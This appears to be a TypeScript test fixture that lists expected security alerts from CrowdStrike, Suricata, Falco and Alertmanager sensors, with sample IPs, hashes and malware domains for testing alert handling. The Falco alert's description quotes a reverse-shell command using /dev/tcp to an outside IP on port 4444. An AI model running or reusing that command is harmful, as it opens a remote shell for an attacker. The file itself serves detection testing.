import { alert, type Expectations } from './expectation.js';

export const SENSORS: Expectations = {
  crowdstrike: [
    alert({
      title: 'CobaltStrikeBeacon',
      severity: 'high',
      source_id: 'a37c5e9012d84b6f8e1d0c9b7a654321:ind:9f0e1d2c3b4a59687766554433221100:399748687993-5761-42627600',
      description: 'A process matched the behaviour of a known beacon.',
      source_ip: '172.16.4.31',
      dest_ip: '64.176.10.99',
      hostname: 'FIN-LAPTOP-22',
      tags: ['fc/offering/falcon_complete'],
      iocs: {
        ips: ['172.16.4.31', '64.176.10.99', '198.51.100.9'],
        domains: ['beacon.trustedcdn.org'],
        hashes: ['e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
      },
    }),
  ],
  'crowdstrike-stream': [
    alert({
      title: 'Known Malware',
      severity: 'high',
      source_id: 'ldt:9f0e1d2c3b4a59687766554433221100:163208931779',
      description: 'A file was identified as malware.',
      source_ip: '10.3.3.4',
      hostname: 'SALES-PC-4',
      iocs: {
        ips: ['10.3.3.4'],
        hashes: [
          '44d88612fea8a8f36de82e1278abb02f',
          '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
        ],
      },
    }),
  ],
  suricata: [
    alert({
      title: 'ET MALWARE Loader checkin over HTTP',
      severity: 'critical',
      description: 'A Network Trojan was detected',
      source_ip: '10.0.5.23',
      dest_ip: '185.244.25.7',
      iocs: {
        ips: ['10.0.5.23', '185.244.25.7'],
        domains: ['stage2.malhost.ru'],
        hashes: ['d41d8cd98f00b204e9800998ecf8427e'],
      },
    }),
  ],
  falco: [
    alert({
      title: 'Shell Opens Network Connection',
      severity: 'medium',
      source: 'syscall',
      source_id: '9a1b6a4c-3f6e-4e0d-8d3f-6b8f6c0a7e11',
      description:
        '09:31:02.123456789: Warning Outbound connection from a shell in a container (connection=10.244.1.7:51442->147.78.47.15:4444 command=bash -c bash -i >& /dev/tcp/147.78.47.15/4444 container_id=b7e41f9a20cd)',
      source_ip: '10.244.1.7',
      dest_ip: '147.78.47.15',
      hostname: 'k8s-node-4',
      tags: ['container', 'mitre_execution', 'network'],
      iocs: { ips: ['10.244.1.7', '147.78.47.15'] },
    }),
  ],
  'alertmanager-one': [
    alert({
      title: 'TooManyRefusedLogins',
      severity: 'medium',
      source_id: 'c4a4cb1e5a3f1b6d',
      description: 'More than 100 refused logins a minute, most from 203.0.113.66.',
      hostname: 'edge-7',
      partner: 'acme',
      iocs: { ips: ['203.0.113.66'] },
    }),
  ],
  'alertmanager-several': [
    alert({
      title: 'DiskAlmostFull',
      severity: 'critical',
      source_id: '1111aaaa2222bbbb',
      description: 'Disk of db-9 is 97% full',
      hostname: 'db-9',
      iocs: { ips: ['10.0.0.9'] },
    }),
    alert({
      title: 'CertificateExpires',
      severity: 'low',
      source_id: '3333cccc4444dddd',
      description: 'The certificate of shop.acme-store.com expires in 10 days.',
      iocs: { ips: ['10.0.0.10'], domains: ['shop.acme-store.com'] },
    }),
  ],
};
